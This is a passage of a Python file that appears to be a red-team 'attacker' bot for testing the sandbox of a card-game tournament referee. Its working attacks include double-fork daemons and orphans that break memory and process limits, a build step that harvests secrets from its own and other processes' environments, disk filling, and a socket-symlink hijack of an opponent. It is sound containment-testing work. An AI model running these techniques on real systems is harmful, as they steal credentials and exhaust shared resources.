    with open(os.path.join(sys.argv[5], "daemon-alive-%d.txt" % os.getpid()), "w") as f:
        f.write("started at %f\n" % time.time())
except OSError:
    pass
hold = bytearray(int(sys.argv[2]))
for i in range(0, len(hold), 4096):
    hold[i] = 1
kids = []
for _ in range(int(sys.argv[3])):
    pid = os.fork()
    if pid == 0:
        time.sleep(int(sys.argv[4]))
        os._exit(0)
    kids.append(pid)
end = time.time() + int(sys.argv[4])
while time.time() < end:
    try:
        with open(os.path.join(sys.argv[5], "daemon-alive-%d.txt" % os.getpid()), "w") as f:
            f.write("alive at %f holding %d bytes and %d children\n" % (time.time(), len(hold), len(kids)))
    except OSError:
        pass
    time.sleep(1)
"""


def spawn_daemon(hold_bytes: int, children: int, lifetime_s: int) -> int | None:
    """Double fork + setsid: a process outside the bot's group, reparented away from it."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            os.setsid()
            if os.fork():
                os._exit(0)
            os.write(w, str(os.getpid()).encode())
            os.close(w)
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.chdir(str(HERE))
            os.execv(
                sys.executable,
                [
                    sys.executable,
                    "-c",
                    DAEMON,
                    f"fairplay-daemon-{TOKEN}",
                    str(hold_bytes),
                    str(children),
                    str(lifetime_s),
                    str(CANARY),
                ],
            )
        finally:
            os._exit(1)
    os.close(w)
    os.waitpid(pid, 0)
    data = os.read(r, 32)
    os.close(r)
    return int(data) if data else None


def attack_daemon() -> None:
    """Item 7: a daemon (double fork + setsid) that outlives the tournament, holding memory
    and processes."""
    pid = spawn_daemon(32 * MIB, 4, CONFIG.get("daemon_s", 90))
    time.sleep(1)
    alive = False
    with contextlib.suppress(OSError, TypeError):
        os.kill(pid, 0)
        alive = True
    say(
        f"ATTACK {ATTACK} daemon: TRIED: daemon pid {pid} (as we see it, alive {alive}) fairplay-daemon-{TOKEN}"
    )


ORPHAN = r"""
import os, sys, time
hold = bytearray(int(sys.argv[2]))
for i in range(0, len(hold), 4096):
    hold[i] = 1
open(sys.argv[3], "w").write("held %d\n" % len(hold))
time.sleep(int(sys.argv[4]))
"""


def attack_orphans() -> None:
    """Item 7: hold memory and processes in orphans, which a watcher of the bot's tree misses."""
    memory_limit = CONFIG["memory_limit"]
    process_limit = CONFIG["process_limit"]
    flag = os.path.join(os.environ.get("TMPDIR") or "/tmp", f"orphan-{TOKEN}-{os.getpid()}")
    if not CONTAINED:
        flag = str(HERE / f"orphan-{os.getpid()}")
    # Processes: orphans past the process limit.
    if CONFIG.get("orphans", "memory") != "processes":
        attack_orphan_memory(memory_limit, flag)
        return
    started, error = 0, ""
    for _ in range(process_limit + 16):
        try:
            pid = os.fork()
        except OSError as e:
            error = e.strerror
            break
        if pid == 0:
            try:
                if os.fork() == 0:
                    time.sleep(6)
            finally:
                os._exit(0)
        with contextlib.suppress(ChildProcessError):
            os.waitpid(pid, 0)
        started += 1
    time.sleep(1)
    if started >= process_limit + 16:
        report(
            "processes", True, f"{started} orphan processes alive past the limit of {process_limit}"
        )
    else:
        report("processes", False, f"stopped after {started} processes: {error}")


def attack_orphan_memory(memory_limit: int, flag: str) -> None:
    hold = memory_limit + 64 * MIB
    # Memory: an orphan (double fork, same session) that holds more than the whole limit.
    pid = os.fork()
    if pid == 0:
        try:
            if os.fork():
                os._exit(0)
            os.execv(
                sys.executable,
                [sys.executable, "-c", ORPHAN, f"fairplay-orphan-{TOKEN}", str(hold), flag, "8"],
            )
        finally:
            os._exit(1)
    os.waitpid(pid, 0)
    time.sleep(4)
    held = os.path.exists(flag)
    if held:
        report(
            "memory",
            True,
            f"an orphan held {hold >> 20} MiB past the {memory_limit >> 20} MiB limit and I am alive",
        )
    else:
        report("memory", False, "the orphan could not hold the memory")


# Item 8: the build step -------------------------------------------------------------------


def attack_build() -> None:
    """Item 8: the build step reads what it should not, and leaves a daemon."""
    secrets = {
        m.decode()
        for m in SECRET_RE.findall("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    }
    for pid in others():
        secrets |= {m.decode() for m in SECRET_RE.findall(read(f"/proc/{pid}/environ") or b"")}
    if secrets:
        report("environ", True, f"secrets in the build's environment: {sorted(secrets)}")
    else:
        report(
            "environ", False, f"no secret among {len(os.environ)} variables: {sorted(os.environ)}"
        )
    markers, readable = set(), 0
    for path in all_files():
        if path.endswith((".py", ".yaml")) and not_mine(path):
            data = read(path)
            if data is not None:
                readable += 1
                markers |= {m.decode() for m in MARKER_RE.findall(data)}
    if markers:
        report("folders", True, f"read other bots' sources: {sorted(markers)}")
    else:
        report("folders", False, f"{readable} files readable outside my folder, no other bot's")
    found = [
        f
        for f in all_files()
        if f.endswith(("tournament.json", "config.yaml")) and read(f) is not None
    ]
    if found:
        report("output", True, f"read the output folder: {found}")
    else:
        report("output", False, "no output folder in sight")
    _write_pth()
    path = CANARY / "build-wrote-outside.txt"
    try:
        CANARY.mkdir(parents=True, exist_ok=True)
        path.write_text("the build wrote outside its folder\n")
        # Perhaps into a tmpfs of our own that only looks like the host's folder: the test
        # looks at the host's.
        say(f"ATTACK {ATTACK} write: TRIED: wrote {path}")
    except OSError as error:
        report("write", False, f"{path}: {error.strerror}")
    if CONTAINED:
        # How much a build may write to the host's disk (its folder and its home): reported,
        # then removed.
        sizes = {}
        for place in dict.fromkeys(
            [str(HERE), os.environ.get("HOME", ""), os.environ.get("TMPDIR", "")]
        ):
            if not place:
                continue
            path = os.path.join(place, f"fill-{TOKEN}.bin")
            written = 0
            try:
                with open(path, "wb") as f:
                    while written < CONFIG.get("disk_cap", 24 * MIB):
                        f.write(b"\0" * MIB)
                        written += MIB
            except OSError:
                pass
            finally:
                with contextlib.suppress(OSError):
                    os.unlink(path)
            sizes[place] = written >> 20
        say(f"ATTACK {ATTACK} fill: TRIED: MiB written (then removed) {sizes}")
    pid = spawn_daemon(8 * MIB, 2, CONFIG.get("daemon_s", 90))
    time.sleep(1)
    alive = False
    with contextlib.suppress(OSError, TypeError):
        os.kill(pid, 0)
        alive = True
    say(f"ATTACK {ATTACK} daemon: TRIED: daemon pid {pid} (alive {alive}) fairplay-daemon-{TOKEN}")


ATTACKS = {
    "read-logs": (attack_read_logs, True),
    "read-seed": (attack_read_seed, True),
    "read-processes": (attack_read_processes, True),
    "command-folder": (lambda: (attack_read_seed(), _read_sources()), True),
    "signal-opponents": (attack_signal_opponents, False),
    "kill-referee": (attack_kill_referee, True),
    "takeover": (attack_takeover, False),
    "flood": (attack_flood, False),
    "tamper-code": (attack_tamper_code, True),
    "tamper-results": (attack_tamper_results, True),
    "disk": (attack_disk, True),
    "socket-dir": (lambda: _fill_socket_dir(), True),
    "shm": (attack_shm, True),
    "daemon": (lambda: in_a_clean_process("daemon"), True),
    "orphans": (lambda: in_a_clean_process("orphans"), True),
    "orphan-processes": (lambda: in_a_clean_process("orphan-processes"), True),
}


#: Attacks that fork: run from a fresh interpreter, since a process that runs gRPC's threads
#: cannot fork safely (the child may abort in gRPC's mutexes).
CLEAN = {"daemon": attack_daemon, "orphans": attack_orphans, "orphan-processes": attack_orphans}


def in_a_clean_process(name: str) -> None:
    import subprocess

    subprocess.run(
        [sys.executable, str(HERE / "attacker.py"), "--clean"],
        stdin=subprocess.DEVNULL,
        timeout=120,
        check=False,
    )


def run_attack() -> None:
    fn, _ = ATTACKS[ATTACK]
    if not Game.dealt.wait(30):
        say(f"ATTACK {ATTACK} all: FAILED: never dealt")
    say(f"attacker: {ATTACK} starting (pid {os.getpid()}, contained {CONTAINED})")
    try:
        fn()
    except Exception as error:
        report("all", False, f"{type(error).__name__}: {error}")
    finally:
        say(f"ATTACK {ATTACK} done")
        Game.verdict.set()


# Item 4, the other way round: borrow an opponent's brain ------------------------------

AUTHOR = "fairplay-attacker"


def borrow_a_brain() -> None:
    """Never serve: make our socket a symbolic link to a neighbour's socket instead.

    The link is resolved by the referee, on the host, where the other bots' socket folders
    (``.../bN/bot.sock``, numbered in start order) exist: if it connects through it, the
    opponent answers every request for our seat. We cannot see whether it did (the game
    logs will say: our seat's author is the opponent's), so the link moves from neighbour to
    neighbour while the referee waits for us to serve.
    """
    address = ARGS.get("address") or ""
    if not address.startswith("unix:"):
        say(f"ATTACK {ATTACK} link: FAILED: no socket to replace ({address or ARGS})")
        time.sleep(3600)
        return
    path = address[5:]
    folder = os.path.dirname(path)
    m = re.search(r"^(.*/)?b(\d+)$", folder)
    runtime = os.path.dirname(folder)
    mine = int(m.group(2)) if m else 0
    candidates = [
        os.path.join(runtime, f"b{n}", os.path.basename(path))
        for d in (1, -1, 2, -2, 3, -3, 4, -4)
        if (n := mine + d) > 0
    ]
    linked = []
    for target in candidates * 2:
        try:
            with contextlib.suppress(FileNotFoundError):
                os.unlink(path)
            os.symlink(target, path)
            linked.append(target)
            if len(linked) == 1:
                say(f"ATTACK {ATTACK} link: TRIED: our socket is a link to {target}")
        except OSError as error:
            say(f"ATTACK {ATTACK} link: FAILED: {path} -> {target}: {error.strerror}")
            break
        time.sleep(1.2)
    say(f"ATTACK {ATTACK} links: TRIED: our socket pointed in turn at {linked[:8]}")
    time.sleep(3600)


# The bot ---------------------------------------------------------------------------------


class Strategy:
    @staticmethod
    def pass_cards(request):
        return sorted(request.hand, key=lambda c: (c.rank, c.suit), reverse=True)[: request.count]

    @staticmethod
    def play_card(request):
        return min(request.legal_moves, key=lambda c: (c.rank, c.suit))


STRATEGY = Strategy()
ARGS: dict = {"name": "attacker"}


def main(argv: list[str]) -> None:
    if "--build" in argv:
        attack_build()
        return
    if "--clean" in argv:
        CLEAN[ATTACK]()
        return
    from referee.botkit import Bot, serve
    from referee.protocol import rules_from_pb

    attacking = "--no-attack" not in argv
    argv = [a for a in argv if a != "--no-attack"]
    for i, arg in enumerate(argv):
        if arg == "--address" and i + 1 < len(argv):
            ARGS["address"] = argv[i + 1]
        if arg == "--port" and i + 1 < len(argv):
            ARGS["port"] = int(argv[i + 1])
    ARGS["name"] = CONFIG.get("bot_name", "attacker")
    block_s = CONFIG.get("block_s", 20)
    if attacking and ATTACK == "borrow":
        borrow_a_brain()
        return
    launched = threading.Lock()

    class Attacker(Bot):
        name = "fairplay-attacker"
        version = "1.0.0"
        author = AUTHOR

        def start_game(self, request):
            if not Game.started.is_set() and request.game_id in CONFIG.get("games", ["t1-d1-r1"]):
                Game.game_id, Game.seat = request.game_id, request.seat
                Game.players = tuple(p.name for p in request.players)
                Game.rules = rules_from_pb(request.rules)
                Game.started.set()

        def deal_hand(self, request):
            if request.game_id == Game.game_id and not Game.dealt.is_set():
                Game.hand = tuple(sorted(card_str(c) for c in request.hand))
                Game.dealt.set()
                if attacking and ATTACK in ATTACKS and launched.acquire(blocking=False):
                    threading.Thread(target=run_attack, daemon=True).start()

        def _wait(self):
            # The first decision waits for the attack's verdict, so that every attack has
            # reported before the tournament can end (the move time is generous).
            if launched.locked() and not Game.verdict.is_set():
                Game.verdict.wait(block_s)

        def pass_cards(self, request):
            self._wait()
            return STRATEGY.pass_cards(request)

        def play_card(self, request):
            self._wait()
            return STRATEGY.play_card(request)

    serve(Attacker(), argv)


if __name__ == "__main__":
    main(sys.argv[1:])
